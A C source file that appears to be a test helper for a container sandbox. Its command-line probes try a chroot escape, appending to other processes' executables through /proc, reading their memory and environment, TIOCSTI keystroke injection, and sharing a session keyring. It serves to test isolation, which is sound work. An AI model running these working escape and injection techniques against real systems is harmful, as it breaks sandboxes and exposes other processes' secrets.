// What a hostile program inside a container tries. Each attack is a word on the command line and prints what came of it.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static int say(const char *what, long result)
{
    printf("%s: %s\n", what, result >= 0 ? "done" : strerrorname_np(errno));
    fflush(stdout);
    return result >= 0;
}

// Calls back for every process but this one.
static void each_process(int (*visit)(int))
{
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));)
    {
        int pid = atoi(entry->d_name);
        if (pid > 0 && pid != getpid() && visit(pid)) break;
    }
    closedir(proc);
}

// Keeps the image of a process whose file is none of the container's own, and writes to it once no process runs it.
static char s_own[256];
static int steal_one(int pid)
{
    char path[64], link[256] = "";
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int image = open(path, O_RDONLY);
    if (image < 0) return 0;
    snprintf(path, sizeof path, "/proc/self/fd/%d", image);
    if (readlink(path, link, sizeof link - 1) < 0 || !strcmp(link, s_own) || !strncmp(link, "/bin/", 5))
    {
        close(image);
        return 0;
    }

    puts("stolen");
    fflush(stdout);
    int file = -1;
    for (int i = 0; i < 3000 && (file = open(path, O_WRONLY | O_APPEND)) < 0 && errno == ETXTBSY; i++) usleep(1000);
    if (!say("open for writing", file)) exit(0);
    say("write", write(file, "X", 1));
    exit(0);
}

static void steal(void)
{
    if (readlink("/proc/self/exe", s_own, sizeof s_own - 1) < 0) return;
    puts("ready");
    fflush(stdout);
    for (;;) each_process(steal_one);
}

static void list_descriptors(void)
{
    for (int i = 0; i < 4096; i++)
    {
        if (fcntl(i, F_GETFD) >= 0) printf("%d ", i);
    }
    puts("");
}

// Leaves a chroot: a folder that is open stays outside of the next one.
static void escape(const char *marker)
{
    int root = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/trap", 0755);
    if (!say("chroot", chroot("/trap")) || !say("fchdir", fchdir(root))) return;
    for (int i = 0; i < 64; i++) chdir("..");
    say("chroot .", chroot("."));
    struct stat status;
    puts(stat(marker, &status) == 0 ? "escaped" : "inside");
}

static int look_into(int pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    char name[32] = "";
    int comm = open(path, O_RDONLY);
    if (comm < 0 || read(comm, name, sizeof name - 1) < 0) return 0;
    close(comm);
    static const char *const tries[] = {"mem", "fd", "environ", "maps", "root/"};
    for (int i = 0; i < 5; i++)
    {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, tries[i]);
        int file = open(path, O_RDONLY);
        if (file < 0) continue;
        char link[256] = "";
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        // Whoever has become the command is fair game: it is the launcher that must not be looked into.
        if (readlink(path, link, sizeof link - 1) > 0 && strncmp(link, "/bin/", 5) && strncmp(link, "/usr/bin/", 9) && strcmp(link, s_own))
        {
            printf("looked into %s of %d, %s, whose image is %s\n", tries[i], pid, name, link);
            fflush(stdout);
        }
        close(file);
    }
    return 0;
}

static void spy(void)
{
    if (readlink("/proc/self/exe", s_own, sizeof s_own - 1) < 0) return;
    puts("ready");
    fflush(stdout);
    for (;;) each_process(look_into);
}

// Runs a command with a terminal of its own, as a user at a console does; prints what it wrote there.
static int with_terminal(char **command)
{
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    grantpt(master);
    unlockpt(master);
    pid_t child = fork();
    if (child == 0)
    {
        setsid();
        int slave = open(ptsname(master), O_RDWR);
        ioctl(slave, TIOCSCTTY, 0);
        for (int i = 0; i < 3; i++) dup2(slave, i);
        execvp(command[0], command);
        _exit(127);
    }

    char buffer[4096];
    int slave = open(ptsname(master), O_RDWR | O_NOCTTY);
    int status;
    waitpid(child, &status, 0);
    fcntl(master, F_SETFL, O_NONBLOCK);
    for (ssize_t n; (n = read(master, buffer, sizeof buffer)) > 0;) fwrite(buffer, 1, n, stdout);
    int typed = 0;
    ioctl(slave, FIONREAD, &typed);
    printf("typed: %d\n", typed);
    return WEXITSTATUS(status);
}

// Says which session keyring it has; given a name, makes one of that name first that anyone may share, and runs what follows.
static int with_keyring(char **words)
{
    if (words[0])
    {
        long keyring = syscall(SYS_keyctl, 1, words[0]);
        syscall(SYS_keyctl, 5, keyring, 0x3f3f3f3f);
    }

    printf("%ld\n", syscall(SYS_keyctl, 0, -3, 0));
    fflush(stdout);
    if (words[0]) execv(words[1], words + 1);
    return words[0] != 0;
}

int main(int count, char **words)
{
    const char *attack = count > 1 ? words[1] : "";
    if (!strcmp(attack, "steal")) steal();
    else if (!strcmp(attack, "descriptors")) list_descriptors();
    else if (!strcmp(attack, "escape")) escape(words[2]);
    else if (!strcmp(attack, "spy")) spy();
    else if (!strcmp(attack, "keyring")) return with_keyring(words + 2);
    else if (!strcmp(attack, "terminal")) return with_terminal(words + 2);
    else if (!strcmp(attack, "type"))
    {
        say("TIOCSTI", ioctl(0, TIOCSTI, "\n"));
        char linux_paste = 3;
        say("TIOCLINUX", ioctl(0, TIOCLINUX, &linux_paste));
        say("/dev/tty", open("/dev/tty", O_RDWR));
        printf("own session: %d\n", getsid(0) == getpid() || getsid(0) == 1);
    }
    else if (!strcmp(attack, "call")) say("call", syscall(atoi(words[2]), 0, 0, 0, 0, 0, 0));
    else return 2;
    return 0;
}
